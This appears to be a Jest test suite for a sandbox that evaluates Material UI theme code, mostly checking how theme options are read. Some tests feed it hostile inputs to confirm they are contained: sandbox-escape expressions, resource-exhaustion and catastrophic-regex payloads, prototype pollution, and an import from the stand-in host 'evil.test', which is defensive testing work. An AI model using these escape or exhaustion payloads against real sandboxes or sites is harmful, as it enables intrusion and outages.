import { createTheme } from '@mui/material/styles';
import { SandboxError } from './engine';
import { runTheme, type ThemeRun } from './runTheme';

jest.setTimeout(60_000);

const run = (code: string, name = 'theme.ts') => runTheme([{ name, code }]);
const STYLES =
  "import { createTheme, alpha, darken, responsiveFontSizes } from '@mui/material/styles';\n";

/** The options of the likeliest theme. */
async function optionsOf(code: string, name?: string) {
  const done = await run(code, name);
  return { names: done.candidates.map((candidate) => candidate.name), ...done.options(0) };
}

/** Forms in which applications write their themes. */
it.each<[string, string, object]>([
  [
    'color functions and palettes',
    `${STYLES}import { colors } from '@mui/material'; import teal from '@mui/material/colors/teal';
    export const theme = createTheme({ palette: { primary: teal, secondary: { main: colors.pink[500], dark: darken('#fff', 0.5) }, divider: alpha('#000', 0.1) } });`,
    {
      palette: {
        primary: { 500: '#009688' },
        secondary: { main: '#e91e63', dark: 'rgb(127, 127, 127)' },
        divider: 'rgba(0, 0, 0, 0.1)',
      },
    },
  ],
  [
    'conditions, enums, destructuring, and classes',
    `${STYLES}enum Size { Small = 4 } const [a, b] = [1, 2]; const { c = 3 } = {} as { c?: number };
    class Tokens { static radius = a + b + c; get half() { return Tokens.radius / 2; } }
    export default createTheme({ spacing: Size.Small, shape: { borderRadius: new Tokens().half }, ...(a < b && { zIndex: { drawer: 9 } }) });`,
    { spacing: 4, shape: { borderRadius: 3 }, zIndex: { drawer: 9 } },
  ],
  [
    'assignments after the call',
    `${STYLES}const theme = createTheme({ palette: { primary: { main: '#123456' } } });
    theme.typography.h1 = { ...theme.typography.h1, [theme.breakpoints.up('md')]: { fontSize: '4rem' } };
    theme.components = { MuiCard: { defaultProps: { raised: true } } };
    export default theme;`,
    {
      palette: { primary: { main: '#123456' } },
      typography: { h1: { '@media (min-width:900px)': { fontSize: '4rem' } } },
      components: { MuiCard: { defaultProps: { raised: true } } },
    },
  ],
  [
    'a theme that is made of another one',
    `${STYLES}const base = createTheme({ spacing: 4, palette: { mode: 'dark' } });
    export const theme = createTheme(base, { shape: { borderRadius: base.spacing(2) } });`,
    { spacing: 4, palette: { mode: 'dark' }, shape: { borderRadius: '8px' } },
  ],
  [
    'a theme that spreads another one',
    `${STYLES}const theme = createTheme({ spacing: 4, shape: { borderRadius: 8 }, components: { MuiCard: { defaultProps: { raised: true } } } });
    export const darkTheme = createTheme({ ...theme, palette: { mode: 'dark' }, components: { ...theme.components, MuiChip: { defaultProps: { size: 'small' } } } });`,
    {
      spacing: { $fn: 0 },
      shape: { borderRadius: 8 },
      palette: { mode: 'dark' },
      components: {
        MuiCard: { defaultProps: { raised: true } },
        MuiChip: { defaultProps: { size: 'small' } },
      },
    },
  ],
  [
    'responsive font sizes',
    `${STYLES}export const theme = responsiveFontSizes(createTheme({ spacing: 2 }));`,
    {
      spacing: 2,
      typography: {
        h1: { fontSize: '3.5rem', '@media (min-width:600px)': { fontSize: '4.7129rem' } },
      },
    },
  ],
  [
    'typography as a function of the palette',
    `${STYLES}export const theme = createTheme({ palette: { text: { primary: '#222222' } }, typography: (palette) => ({ h6: { color: palette.text.primary } }) });`,
    { typography: { h6: { color: '#222222' } } },
  ],
  [
    'a font of Next.js',
    `import { Source_Sans_3 } from 'next/font/google';\n${STYLES}const font = Source_Sans_3({ subsets: ['latin'] });
    export const theme = createTheme({ typography: { fontFamily: font.style.fontFamily } });`,
    { typography: { fontFamily: '"Source Sans 3", sans-serif' } },
  ],
  [
    'merged options',
    `import { deepmerge } from '@mui/utils';\nexport const options = deepmerge({ spacing: 4, shape: { borderRadius: 1 } }, { shape: { borderRadius: 2 } });`,
    { spacing: 4, shape: { borderRadius: 2 } },
  ],
  [
    'Material UI 4',
    `import { createMuiTheme, fade } from '@material-ui/core/styles';
    export default createMuiTheme({ palette: { type: 'dark', divider: fade('#ffffff', 0.5) }, props: { MuiButton: { disableElevation: true } }, overrides: { MuiButton: { root: { borderRadius: 9 } } } });`,
    {
      palette: { mode: 'dark', divider: 'rgba(255, 255, 255, 0.5)' },
      components: {
        MuiButton: {
          defaultProps: { disableElevation: true },
          styleOverrides: { root: { borderRadius: 9 } },
        },
      },
    },
  ],
  [
    'colors that Material UI refuses',
    `${STYLES}export const theme = createTheme({ spacing: 3, palette: { primary: { main: 'tomato' } } });`,
    { spacing: 3, palette: { primary: { main: 'tomato' } } },
  ],
])('reads %s', async (_what, code, expected) => {
  const { light } = await optionsOf(code);
  expect(light).toMatchObject(expected);
  // Nothing of Material UI itself.
  expect(Object.keys(light as object)).not.toEqual(
    expect.arrayContaining(['breakpoints', 'applyStyles', 'unstable_sx']),
  );
});

it.each<[string, string, string[], object, object | null]>([
  [
    'a light and a dark theme',
    `${STYLES}const of = (mode: 'light' | 'dark') => createTheme({ palette: { mode } });
    export const lightTheme = of('light');
    export const darkTheme = of('dark');`,
    ['lightTheme + darkTheme', 'lightTheme', 'darkTheme'],
    { palette: { mode: 'light' } },
    { palette: { mode: 'dark' } },
  ],
  [
    'options by mode',
    "export const getDesignTokens = (mode) => ({ palette: { mode, divider: mode === 'dark' ? '#444444' : '#dddddd' } });",
    ['getDesignTokens(mode)'],
    { palette: { divider: '#dddddd' } },
    { palette: { divider: '#444444' } },
  ],
  [
    'a function of an object',
    `${STYLES}export default function build({ mode }: { mode: 'light' | 'dark' }) { return createTheme({ palette: { mode } }); }`,
    ['default(mode)'],
    { palette: { mode: 'light' } },
    { palette: { mode: 'dark' } },
  ],
  [
    'a function without arguments',
    `${STYLES}export const makeTheme = () => createTheme({ spacing: 7 });`,
    ['makeTheme()'],
    { spacing: 7 },
    null,
  ],
  [
    'several themes',
    `${STYLES}export const forest = createTheme({ spacing: 1 }); export const theme = createTheme({ spacing: 2 }); export const all = { sea: createTheme({ spacing: 3 }) };`,
    ['theme', 'forest', 'all.sea'],
    { spacing: 2 },
    null,
  ],
])('finds %s', async (_what, code, names, light, dark) => {
  const found = await optionsOf(code);
  expect(found.names).toEqual(names);
  expect(found.light).toMatchObject(light);
  expect(found).toMatchObject({ dark });
});

it('finds the theme of a component that provides it, by its line', async () => {
  const found = await optionsOf(
    `import * as React from 'react';
import { ThemeProvider, createTheme } from '@mui/material/styles';
import CssBaseline from '@mui/material/CssBaseline';
export default function Providers({ children }) {
  const [mode] = React.useState('dark');
  const theme = React.useMemo(() => createTheme({ palette: { mode } }), [mode]);
  return <ThemeProvider theme={theme}><CssBaseline />{children}</ThemeProvider>;
}`,
    'Providers.tsx',
  );
  expect(found).toMatchObject({
    names: ['createTheme(), line 6'],
    light: { palette: { mode: 'dark' } },
  });
});

it('resolves imports among files, and names what is missing with its use', async () => {
  const done = await runTheme([
    {
      name: 'theme/index.ts',
      code: `${STYLES}import { palette } from './palette'; import tokens from '@/theme/tokens.json'; import merge from 'lodash/merge'; import { brand } from '../brand';\nexport const theme = createTheme({ palette, spacing: tokens.gap, shape: merge({}, { borderRadius: brand.radius }) });`,
    },
    { name: 'theme/palette.ts', code: "export const palette = { mode: 'dark' };" },
    { name: 'theme/tokens.json', code: '{ "gap": 5 }' },
  ]);
  expect(done.candidates.map(({ name, file }) => [name, file])).toEqual([
    ['theme', 'theme/index.ts'],
  ]);
  expect(done.missing).toEqual([
    ['lodash/merge', ['default']],
    ['../brand', ['brand']],
  ]);
  expect(done.options(0).light).toEqual({
    palette: { mode: 'dark' },
    spacing: 5,
    shape: { $missing: 'default() of lodash/merge' },
  });
});

it.each([
  [
    'an error',
    `${STYLES}\nconst a = undefined;\nexport const theme = createTheme(a.b);`,
    /cannot read property 'b'/,
    ['theme.ts:4'],
  ],
  [
    'a mistake in the syntax',
    'export const theme = {\n  a: ,\n};',
    /Unexpected token/,
    ['theme.ts:2'],
  ],
  [
    'something of the browser',
    'export const theme = {\n  spacing: window.devicePixelRatio };',
    /window/,
    ['theme.ts:2'],
  ],
])('says where %s is', async (_what, code, message, places) => {
  const error = (await run(code).catch((thrown: unknown) => thrown)) as SandboxError;
  expect(error).toBeInstanceOf(SandboxError);
  expect(error.message).toMatch(message);
  expect(error.places.slice(0, 1)).toEqual(places);
});

describe('style functions', () => {
  const styled = (root: string) =>
    `${STYLES}export const theme = createTheme({ spacing: 4, components: { MuiButton: { styleOverrides: { root: ${root} } } } });`;
  const theme = createTheme({ spacing: 4, palette: { primary: { main: '#0000ff' } } });
  const styles = (done: ThemeRun, ownerState: object, props: object = {}) =>
    done.call(0, [{ theme, ownerState, ...props }], 4);

  it('get the theme of the page and the props of the component', async () => {
    const done = await run(
      styled(`({ ownerState: { color, size }, theme: { palette, spacing } }) => {
        if (color !== 'primary') { return { color: 'inherit' }; }
        const sizes = new Map([['small', 1]]);
        return { color: alpha(palette[color].main, 0.5), padding: spacing(sizes.get(size) ?? 2) };
      }`),
    );
    expect(done.options(0).light).toMatchObject({
      components: { MuiButton: { styleOverrides: { root: { $fn: 0 } } } },
    });
    expect(styles(done, { color: 'primary', size: 'small' })).toEqual({
      color: 'rgba(0, 0, 255, 0.5)',
      padding: '4px',
    });
    expect(styles(done, { color: 'primary' })).toEqual({
      color: 'rgba(0, 0, 255, 0.5)',
      padding: '8px',
    });
    expect(styles(done, { color: 'error' })).toEqual({ color: 'inherit' });
  });

  it('can spread props, use sx and the variables of the theme, and be conditions', async () => {
    const done = await run(
      styled(
        '({ theme, ...rest }) => ({ ...theme.unstable_sx({ px: rest.dense ? 1 : 2 }), color: (theme.vars || theme).palette.primary.main })',
      ),
    );
    done.options(0);
    expect(styles(done, {}, { dense: true })).toEqual({
      paddingLeft: '4px',
      paddingRight: '4px',
      color: '#0000ff',
    });
    const condition = await run(
      styled("({ ownerState }) => ownerState.variant === 'text' && ownerState.color !== 'error'"),
    );
    condition.options(0);
    expect(styles(condition, { variant: 'text' })).toBe(true);
    expect(styles(condition, { variant: 'text', color: 'error' })).toBe(false);
  });

  it('run once for the same props, whatever else changes', async () => {
    const done = await run(
      `let count = 0;\n${styled('({ ownerState }) => ({ order: ownerState.color ? ++count : 0 })')}`,
    );
    done.options(0);
    expect(styles(done, { color: 'a', children: ['x'] })).toEqual({ order: 1 });
    expect(styles(done, { color: 'a', onClick: () => undefined })).toEqual({ order: 1 });
    expect(styles(done, { color: 'b' })).toEqual({ order: 2 });
  });

  it('never see functions, elements, or long lists of the page', async () => {
    const done = await run(
      styled(
        '({ ownerState }) => ({ content: Object.keys(ownerState).map((key) => key + ":" + JSON.stringify(ownerState[key])).join() })',
      ),
    );
    done.options(0);
    const ownerState = {
      rows: Array.from({ length: 1000 }, () => 1),
      run: () => 1,
      element: { $$typeof: Symbol.for('x') },
      node: new Date(0),
      list: [1, { a: 2 }],
    };
    expect(styles(done, ownerState)).toEqual({
      content: 'rows:[],run:undefined,element:undefined,node:undefined,list:[1,{"a":2}]',
    });
  });

  it('that fail are reported with their line, and are not called again', async () => {
    const done = await run(
      styled('({ ownerState }) => ({\n color: ownerState.color.name.first })'),
    );
    done.options(0);
    const listener = jest.fn();
    done.onFault(listener);
    expect(styles(done, { color: 'a' })).toBeUndefined();
    expect([...done.faults.values()]).toEqual([
      { message: expect.stringContaining('first') as string, place: 'theme.ts:3' },
    ]);
    await Promise.resolve();
    expect(listener).toHaveBeenCalledTimes(1);
    expect(styles(done, { color: { name: { first: 'red' } } })).toBeUndefined();
  });

  it.each([
    'const f = () => 0; Object.defineProperty(f, "length", { value: 2 ** 53 - 1 }); [].indexOf.call(f, 1);',
    'let n = 0; const o = { get length() { n += 1; return n % 2 ? 2 ** 53 - 1 : 0; } }; [].indexOf.call(o, 1);',
    'let n = 0; const o = { get length() { n += 1; return n % 2 ? 0 : 2 ** 53 - 1; } }; [].lastIndexOf.call(o, 1);',
    '[].concat({ [Symbol.isConcatSpreadable]: true, get length() { return 2 ** 53 - 1; } });',
    'let a = []; for (let i = 0; i < 60; i += 1) { a = [a, a]; } a.flat(Infinity);',
    'JSON.stringify({}, new Array(2 ** 32 - 1));',
    'let a = "a".repeat(1e5); for (let i = 0; i < 5; i += 1) { a += a; } "".indexOf.call(Object(a + a), { toString: () => a + "b" });',
    'let a = "a".repeat(1e5); for (let i = 0; i < 5; i += 1) { a += a; } a.indexOf({ toString: () => a + "b" });',
    'let a = "a".repeat(1e5); for (let i = 0; i < 5; i += 1) { a += a; } const r = /x/; r[Symbol.replace] = undefined; r.toString = () => a + "b"; (a + a).replace(r, "");',
    'let a = "a".repeat(1e5); for (let i = 0; i < 5; i += 1) { a += a; } RegExp.prototype.toString = () => a + "b"; RegExp.prototype[Symbol.split] = null; (a + a).split(/x/);',
    'Math.max = () => 0; let a = "a".repeat(1e5); for (let i = 0; i < 5; i += 1) { a += a; } (a + a).includes(a + "b");',
    'Symbol = { isConcatSpreadable: "x" }; RegExp.prototype.exec = () => null; [].includes.call({ length: 2 ** 53 - 1 }, 1);',
  ])('that spend their time inside of the engine are stopped: %s', async (code) => {
    const done = await run(styled(`() => { ${code}\n return { color: 'red' }; }`));
    done.options(0);
    const start = performance.now();
    styles(done, {});
    expect(performance.now() - start).toBeLessThan(2000);
  });

  it.each([
    String.raw`grow('\u0301\u0316').normalize('NFD');`,
    String.raw`const s = '\u0301\u0316'.repeat(4000); s.localeCompare(s + 'a');`,
    String.raw`const s = '\u0301\u0316'.repeat(900); for (;;) { s.normalize('NFD'); }`,
    'String.raw({ raw: { length: 1e9 } });',
    'let node = [1]; for (let i = 0; i < 40; i += 1) { node = [node, node]; } JSON.stringify(node);',
    'Array.from({ length: 1000 }, (_, i) => grow("a").slice(0, 300000) + i).sort();',
    'const s = grow("a"); Array.from({ length: 1000 }, () => ({ toString: () => s })).sort();',
    'const s = grow("a"); for (;;) { s.indexOf("b"); }',
    'const s = grow("a"); const t = s.slice(1) + "a"; for (;;) { s === t; }',
    'const s = grow("a"); for (;;) { JSON.stringify(s); }',
    'const text = JSON.stringify(Array.from({ length: 50000 }, (_, i) => i)); for (;;) { JSON.parse(text); }',
    'const s = grow("a"); for (;;) { encodeURIComponent(s); }',
    'const s = grow("a"); for (;;) { s.toUpperCase(); }',
    'const source = "1;".repeat(1e5); for (;;) { (0, eval)(source); }',
    'const pairs = Array.from({ length: 100000 }, (_, i) => ["k" + i, i]); for (;;) { Object.fromEntries(pairs); }',
    'const object = Object.fromEntries(Array.from({ length: 50000 }, (_, i) => ["k" + i, i])); for (;;) { for (const key in object) break; }',
    'const list = Array.from({ length: 60000 }, (_, i) => i); for (;;) { Math.max.apply(null, list); }',
  ])('that repeat long work of the engine are stopped: %s', async (code) => {
    const grow = 'const grow = (s) => { while (s.length < 3e6) { s += s; } return s; };';
    const done = await run(styled(`() => { ${grow} ${code}\n return { color: 'red' }; }`));
    done.options(0);
    const start = performance.now();
    styles(done, {});
    expect(performance.now() - start).toBeLessThan(3000);
  });

  it('that never end are stopped, and the others with them in the end', async () => {
    const roots = [0, 1, 2, 3].map(
      (index) =>
        `Mui${'ABCD'[index]}: { styleOverrides: { root: ({ ownerState }) => { for (;;) {} } } }`,
    );
    const done = await run(`export const theme = { components: { ${roots.join(', ')} } };`);
    done.options(0);
    const start = performance.now();
    for (let index = 0; index < 400; index += 1) {
      expect(done.call(index % 4, [{ theme, ownerState: { index } }])).toBeUndefined();
    }
    expect(performance.now() - start).toBeLessThan(2000);
  });
});

it('leaves the usual work with lists and texts as it is', async () => {
  const { light } = await optionsOf(
    `function list() { return Array.prototype.slice.call(arguments, 1); }
    const channels = (hex: string) => /^#(..)(..)(..)$/.exec(hex)!.slice(1).map((part) => parseInt(part, 16));
    const hex = (rgb: number[]) => '#' + rgb.map((part) => part.toString(16).padStart(2, '0')).join('');
    const steps = Object.entries({ b: [2, [3]], a: [1] }).sort(([a], [b]) => a.localeCompare(b, 'en', { numeric: true }));
    export const theme = { spacing: 1, custom: {
      list: list('a', 'b', 'c'), letters: Array.prototype.map.call('abc', (letter) => letter + letter), copied: Array.from({ length: 2 }, (_, i) => i),
      color: hex(channels('#0a141e')), flat: steps.map(([, values]) => values).flat(Infinity), once: [[1], [[2]]].flat(), joined: [1].concat([2], 3),
      kebab: 'borderRadiusLarge'.replace(/[A-Z]/g, (letter) => '-' + letter.toLowerCase()), parts: 'a, b,c'.split(/,\\s*/), raw: String.raw\`a\\b\`.length,
      keys: JSON.parse(JSON.stringify({ a: 1, b: 2 }, ['a'])), spread: [...'ab', ...new Set([1, 1])], found: [...'a1b2'.matchAll(/\\d/g)].map(String),
    } };`,
  );
  expect(light).toEqual({
    spacing: 1,
    custom: {
      ...{ list: ['b', 'c'], letters: ['aa', 'bb', 'cc'], copied: [0, 1] },
      ...{ color: '#0a141e', flat: [1, 2, 3], once: [1, [2]], joined: [1, 2, 3] },
      ...{ kebab: 'border-radius-large', parts: ['a', 'b', 'c'], raw: 3 },
      ...{ keys: { a: 1 }, spread: ['a', 'b', 1], found: ['1', '2'] },
    },
  });
});

/** What a link could contain. */
it.each([
  ['an endless loop', 'for (;;) {}', /too long/],
  [
    'a loop of promises',
    'export const theme = {}; const again = () => Promise.resolve().then(again); again();',
    null,
  ],
  [
    'ten million objects',
    'const all = []; for (let i = 0; i < 1e7; i += 1) { all.push({ i }); }',
    /memory|too long/,
  ],
  ['deep recursion', 'const deep = () => deep() + 1; deep();', /stack|too much recursion/i],
  ['recursion in a sort', 'const deep = () => [2, 1].sort(deep) && 0; deep();', /stack|too long/i],
  ['a text that doubles', "let text = 'x'; for (;;) { text += text; }", /memory|too long|length/i],
  ['a regular expression without an end', "/^(a+)+$/.test('a'.repeat(60) + 'b');", /too long/],
  [
    'a theme in itself',
    'const a: Record<string, unknown> = { spacing: 1 }; a.shape = a; export const theme = a;',
    /contains itself/,
  ],
  [
    'a getter without an end',
    'export const theme = { get spacing() { for (;;) {} } };',
    /too long/,
  ],
  [
    'a proxy that has all keys',
    'export const theme = new Proxy({ spacing: 1 }, { ownKeys: () => Array.from({ length: 1e6 }, (_, i) => String(i)), getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 1 }) });',
    /not defined/,
  ],
])('stops %s', async (_what, code, message) => {
  const start = performance.now();
  const result = await run(code)
    .then((done) => (done.candidates.length > 0 ? done.options(0) : 'no candidates'))
    .catch((error: unknown) => (error instanceof SandboxError ? error.message : String(error)));
  expect(performance.now() - start).toBeLessThan(6000);
  if (message) {
    expect(String(result)).toMatch(message);
  }
});

it.each([
  'constructor.constructor("return globalThis")()',
  'Function("return this")()',
  '(0, eval)("this")',
  'new Function("return this")()',
  '(async () => {}).constructor("return this")()',
  'globalThis',
])('reaches nothing of the page through %s', async (expression) => {
  const names = [
    'window',
    'document',
    'fetch',
    'XMLHttpRequest',
    'WebSocket',
    'localStorage',
    'navigator',
    'require',
    'Worker',
    'importScripts',
    'WebAssembly',
    'performance',
  ];
  const { light } = await optionsOf(
    `const reached = ${expression};\nexport const theme = { custom: ${JSON.stringify(names)}.filter((name) => reached && typeof (reached[name] ?? undefined) !== 'undefined') , spacing: 1 };`,
  );
  expect(light).toEqual({ custom: [], spacing: 1 });
});

it('leaves the prototypes and the intrinsics of the page alone', async () => {
  const done = await run(
    `Object.prototype.polluted = 1; Array.prototype.map = () => ['x']; JSON.stringify = () => '{"light":{"spacing":9}}'; Object.keys = () => [];
    export const theme = { __proto__: { a: 1 }, spacing: 1 };`,
  ).catch((error: unknown) => error);
  expect({}).not.toHaveProperty('polluted');
  expect([1].map((value) => value + 1)).toEqual([2]);
  expect(done).toBeDefined();
});

it('loads no module at run time', async () => {
  const { light } = await optionsOf(
    "import('https://evil.test/x.js').catch(() => 0);\nexport const theme = { spacing: 1 };",
  );
  expect(light).toEqual({ spacing: 1 });
});

it('has a clock that stands and no random numbers, so that each run is the same', async () => {
  const { light } = await optionsOf(
    `${STYLES}const made = new Date().constructor.now();
    export const theme = createTheme({
      spacing: [Date.now() === made, new Date().getTime() === made, typeof Date() === 'string',
        new Date(0).getTime() === 0, new Date() instanceof Date, Math.random() === Math.random()].filter(Boolean).length,
    });`,
  );
  expect(light).toMatchObject({ spacing: 6 });
});

it.each([
  ['a thrown object that never ends', 'throw { toJSON() { for (;;); } };'],
  ['a getter of a thrown object', 'throw { get message() { for (;;); } };'],
  ['a long stack', "throw { message: 'x', stack: 'a'.repeat(500000) };"],
  ['a long message', "throw new Error('a'.repeat(5000000));"],
])('describes %s within the limits', async (_what, code) => {
  const start = performance.now();
  await expect(run(code)).rejects.toThrow(SandboxError);
  expect(performance.now() - start).toBeLessThan(10_000);
});

it.each([
  ["the engine's way to write data", "JSON.stringify = () => '['.repeat(1e6);"],
  ["the engine's way to read data", 'JSON.parse = () => { throw 1; };'],
])('does not use %s that a theme has replaced', async (_what, code) => {
  const { light } = await optionsOf(
    `${STYLES}${code}
    export const theme = createTheme({ spacing: 4 });`,
  );
  expect(light).toMatchObject({ spacing: 4 });
});

it('keeps what reads props from the theme', async () => {
  const { light } = await optionsOf(
    `${STYLES}export const theme = createTheme({ spacing: typeof host === 'undefined' ? 4 : 5 });`,
  );
  expect(light).toMatchObject({ spacing: 4 });
});
